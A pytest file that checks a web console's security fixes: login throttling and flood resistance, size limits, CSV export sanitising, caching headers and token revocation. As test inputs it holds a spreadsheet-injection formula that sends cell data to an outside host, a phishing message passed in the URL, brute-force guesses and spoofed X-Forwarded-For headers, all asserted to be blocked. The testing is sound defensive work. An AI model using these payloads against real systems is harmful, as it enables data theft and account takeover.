"""The console's hardening after the outside security test (docs/decisions/0058-console-hardening.md): a login flood
does not freeze the console, login bodies and passwords are bounded before hashing, the throttle cannot be raced or
dodged with X-Forwarded-For, exports do not carry spreadsheet formulas, a serial may start with '-', the program page
opens, pages show no attacker text, nothing authenticated is cached, and an API token can be revoked."""
from __future__ import annotations

import concurrent.futures as cf
import csv
import io
import json
import re
import threading
import time
from collections import Counter

import pytest
import requests
from fastapi.testclient import TestClient

from webutil import PASSWORDS, Served, security_site, tiny_program

from cell.web.app import create_app
from cell.web.deps import Config
from cell.web.users import MAX_CLIENT_FAILURES, MAX_FAILURES



class CountingHasher:
    """The store's argon2 hasher, counting its verifications and (optionally) taking ``delay_s`` longer for each,
    as a slower computer would: the window a race needs, and the time a blocked event loop would show."""

    def __init__(self, inner, delay_s: float = 0.0):
        self.inner, self.delay_s, self.verified = inner, delay_s, 0
        self._lock = threading.Lock()

    def verify(self, h, pw):
        with self._lock:
            self.verified += 1
        time.sleep(self.delay_s)
        return self.inner.verify(h, pw)

    def __getattr__(self, name):
        return getattr(self.inner, name)


@pytest.fixture
def site(tmp_path):
    return security_site(tmp_path)


@pytest.fixture
def app(site):
    archive, programs, _ = site
    return create_app(Config(archive=archive, programs=programs))


def _login(client: TestClient, name: str) -> str:
    r = client.post("/login", data={"username": name, "password": PASSWORDS[name]}, follow_redirects=False)
    assert r.status_code == 303, r.text
    page = client.get("/").text
    return re.search(r'name="csrf" value="([^"]+)"', page).group(1)


def _token(client: TestClient, name: str) -> dict:
    r = client.post("/api/token", json={"username": name, "password": PASSWORDS[name]})
    assert r.status_code == 200, r.text
    return {"Authorization": f"Bearer {r.json()['token']}"}


# --- 1. a login flood, bodies and passwords -------------------------------------------------------------
def test_a_flood_of_bad_logins_does_not_hold_up_an_operators_request(app):
    with TestClient(app) as c:
        h = _token(c, "olga")
        slow = app.state.users._ph = CountingHasher(app.state.users._ph, delay_s=1.0)
        n = MAX_FAILURES  # distinct names from one client: within every limit, before and after
        with cf.ThreadPoolExecutor(n) as ex:
            flood = [ex.submit(c.post, "/api/token", json={"username": f"x{k}", "password": "guess-guess"})
                     for k in range(n)]
            t_end = time.monotonic() + 10
            while slow.verified == 0 and time.monotonic() < t_end:
                time.sleep(0.01)
            t0 = time.monotonic()
            r = c.get("/api/jobs", headers=h)
            latency = time.monotonic() - t0
            codes = Counter(f.result().status_code for f in flood)
        assert r.status_code == 200
        assert codes == {401: n}
        # before: each check ran on the event loop, and the request waited for all five (>= 5 s here)
        assert latency < 0.5, f"an operator's request waited {latency:.2f} s behind {n} logins"


def test_an_oversized_login_body_is_refused_unread_and_a_long_password_unhashed(app):
    with TestClient(app) as c:
        hasher = app.state.users._ph = CountingHasher(app.state.users._ph)
        big = "x" * (100 * 1024)
        r = c.post("/api/token", json={"username": "ada", "password": big})
        assert r.status_code == 413, r.status_code
        r = c.post("/login", data={"username": "ada", "password": big}, headers={"Accept": "text/html"})
        assert r.status_code == 413 and big not in r.text
        # no Content-Length (chunked): refused once the bytes read pass the limit
        chunks = (b'{"username": "ada", "password": "' + b"x" * 8192 for _ in range(16))
        r = c.post("/api/token", content=chunks, headers={"Content-Type": "application/json"})
        assert r.status_code == 413, r.status_code
        # within the body limit but longer than any password: refused before argon2 sees it
        r = c.post("/api/token", json={"username": "ada", "password": "y" * 2000})
        assert r.status_code == 413 and "1024" in r.json()["detail"]
        assert hasher.verified == 0, "an over-long password was hashed"
        assert c.post("/api/token", json={"username": "ada", "password": PASSWORDS["ada"]}).status_code == 200


# --- 2. the throttle cannot be raced ---------------------------------------------------------------------
def test_concurrent_wrong_logins_evaluate_at_most_the_limit(app):
    with TestClient(app) as c:
        hasher = app.state.users._ph = CountingHasher(app.state.users._ph, delay_s=0.2)
        n = 60
        pws = [f"wrong{k:04d}" for k in range(n - 1)]
        pws.insert(25, PASSWORDS["olga"])  # the right one, in the middle of the guesses

        def go(k):
            url = "/login" if k % 2 else "/api/token"
            kw = {"data": {"username": "olga", "password": pws[k]}}
            return pws[k], c.post(url, follow_redirects=False, **kw).status_code

        with cf.ThreadPoolExecutor(30) as ex:
            res = dict(ex.map(go, range(n)))
        codes = Counter(res.values())
        evaluated = n - codes[429]
        assert codes[401] <= MAX_FAILURES and hasher.verified == evaluated <= MAX_FAILURES + 1, codes
        assert set(codes) <= {401, 429, 200, 303}, codes
        if res[PASSWORDS["olga"]] == 429:  # the right password came after the limit: it did not get in either
            assert c.post("/api/token", json={"username": "olga", "password": PASSWORDS["olga"]}).status_code == 429


def test_a_right_password_does_not_count_as_a_failure(app):
    with TestClient(app) as c:
        for _ in range(MAX_FAILURES + 2):
            _token(c, "eve")
        for _ in range(MAX_FAILURES - 1):
            assert c.post("/api/token", json={"username": "eve", "password": "nope-nope"}).status_code == 401
        _token(c, "eve")


# --- 3. per-client key and limits -------------------------------------------------------------------------
def test_one_shared_address_does_not_lock_every_account_out_after_five_failures(app):
    with TestClient(app) as c:
        app.state.users._ph = CountingHasher(app.state.users._ph)
        for k in range(MAX_CLIENT_FAILURES - 1):  # operators on one terminal mistyping, each once
            assert c.post("/api/token", json={"username": f"op{k}", "password": "typo-typo"}).status_code == 401
        _token(c, "olga")  # still lets a colleague in
        assert c.post("/api/token", json={"username": "op-x", "password": "typo-typo"}).status_code == 401
        r = c.post("/api/token", json={"username": "olga", "password": PASSWORDS["olga"]})
        assert r.status_code == 429, r.status_code  # the client's limit holds


def test_served_console_ignores_x_forwarded_for(site, tmp_path):
    archive, programs, _ = site
    server = Served(archive, programs, tmp_path / "serve.log")
    try:
        codes = []
        for k in range(MAX_CLIENT_FAILURES + 1):  # each guess claiming another address, each for another name
            r = requests.post(server.url + "/api/token", json={"username": f"u{k}", "password": "guess-guess"},
                              headers={"X-Forwarded-For": f"10.9.{k}.1"}, timeout=60)
            codes.append(r.status_code)
        assert codes[:MAX_CLIENT_FAILURES] == [401] * MAX_CLIENT_FAILURES and codes[-1] == 429, codes
    finally:
        server.stop()


# --- 4. exports -----------------------------------------------------------------------------------------
def test_exports_neutralise_spreadsheet_formulas_but_keep_negative_numbers(site, app):
    from cell.record.archive import Archive
    from cell.record.jobfolder import JobFolder, atomic_write_json

    archive, _, ids = site
    evil = ['=HYPERLINK("http://x/?"&A1,"open")', "+1+2", "-12A", "@SUM(A1)", "\tTAB"]
    for jid, serial in zip(ids, evil):
        folder = archive / jid
        for name in ("run.json", "report.json"):
            doc = json.loads((folder / name).read_text())
            doc["part"]["serial"] = serial
            atomic_write_json(folder / name, doc)
        JobFolder(folder).write_manifest()
    Archive(archive).reindex()
    with TestClient(app) as c:
        h = _token(c, "eve")
        rows = list(csv.DictReader(io.StringIO(c.get(f"/api/jobs/{ids[0]}/report.csv", headers=h).text)))
        assert rows[0]["serial"] == "'" + evil[0]
        dy = [r["dy_um"] for r in rows]
        assert all(v.startswith("-") and float(v) < 0 for v in dy), dy  # numbers stay numbers
        text = c.get("/api/parts/TR-500/targets/T01/trend.csv", headers=h).text
        trows = list(csv.DictReader(io.StringIO(text)))
        assert [r["serial"] for r in trows] == ["'" + s for s in evil[:3]], [r["serial"] for r in trows]
        for r in trows:
            float(r["value_um"])


# --- 5. a serial that starts with '-' ---------------------------------------------------------------------
def test_a_serial_starting_with_a_dash_starts_the_job(site, app):
    archive, programs, _ = site
    tiny_program(programs, "bracket", motion="timed", time_scale=6.0)
    with TestClient(app) as c:
        h = _token(c, "olga")
        r = c.post("/api/jobs", json={"program": "bracket", "serial": "-12A"}, headers=h)
        assert r.status_code == 200, r.text
        assert "usage:" not in r.text
        jid = r.json()["id"]
        app.state.console.abort(jid, "olga")
        app.state.console.runner.wait(120)
    created = json.loads((next(archive.rglob(f"{jid}/journal.jsonl"))).read_text().splitlines()[0])
    assert created["part"]["serial"] == "-12A"


# --- 6. the program page ------------------------------------------------------------------------------------
def test_engineer_opens_and_saves_a_program_page(site, app):
    _, programs, _ = site
    tiny_program(programs, "bracket")
    with TestClient(app) as c:
        csrf = _login(c, "eve")
        page = c.get("/programs/bracket")
        assert page.status_code == 200 and "Part program bracket" in page.text
        text = (programs / "bracket" / "job.toml").read_text()
        r = c.post("/programs/bracket", data={"csrf": csrf, "text": text})
        assert r.status_code == 200 and "Saved." in r.text  # after the redirect


# --- 7. messages from the URL ---------------------------------------------------------------------------------
def test_pages_show_only_the_consoles_own_messages(app):
    evil = "Session expired: call IT on 0800 123 and give them your password"
    with TestClient(app) as c:
        assert evil not in c.get("/login", params={"msg": evil}).text
        assert "You are logged out." in c.get("/login", params={"msg": "logged-out"}).text
        _login(c, "eve")
        assert evil not in c.get("/", params={"msg": evil}).text
        assert evil not in c.get("/programs/x", params={"msg": evil}).text


# --- 8. caching --------------------------------------------------------------------------------------------------
def test_authenticated_pages_and_json_are_not_cached(app, site):
    _, _, ids = site
    with TestClient(app) as c:
        _login(c, "eve")
        for url in ("/", "/archive", f"/jobs/{ids[0]}", "/api/jobs", f"/api/jobs/{ids[0]}/report.json",
                    f"/api/jobs/{ids[0]}/report.csv"):
            r = c.get(url)
            assert r.status_code == 200 and r.headers.get("cache-control") == "no-store", (url, r.headers)
            assert "frame-ancestors 'none'" in r.headers["content-security-policy"]


# --- 9. revoking a token -----------------------------------------------------------------------------------------
def test_an_api_token_is_revoked_by_logging_out(app):
    with TestClient(app) as c:
        for url in ("/api/logout", "/logout"):
            h = _token(c, "olga")
            assert c.get("/api/jobs", headers=h).status_code == 200
            assert c.post(url, headers=h, follow_redirects=False).status_code in (200, 303)
            assert c.get("/api/jobs", headers=h).status_code == 401, url
        # the audit says so
        audit = c.get("/api/audit", headers=_token(c, "eve")).json()["audit"]
        assert [a["user"] for a in audit if a["action"] == "token revoked"] == ["olga", "olga"]


def test_the_session_lookup_runs_off_the_event_loop(app):
    """Every authenticated request reads its session or token from SQLite, which may wait for a lock while a flood
    of logins writes its attempts: the read runs in a worker thread, never on the event loop."""
    import asyncio

    users = app.state.users
    lookup, on_loop = users.session, []

    def spy(secret, kind):
        try:
            asyncio.get_running_loop()
            on_loop.append(kind)
        except RuntimeError:  # no loop in this thread: a worker's
            on_loop.append(None)
        return lookup(secret, kind)

    with TestClient(app) as c:
        users.session = spy
        h = _token(c, "olga")
        assert c.get("/api/jobs", headers=h).status_code == 200
        _login(c, "olga")
        assert c.get("/archive").status_code == 200
    assert len(on_loop) >= 3 and on_loop.count(None) == len(on_loop), on_loop
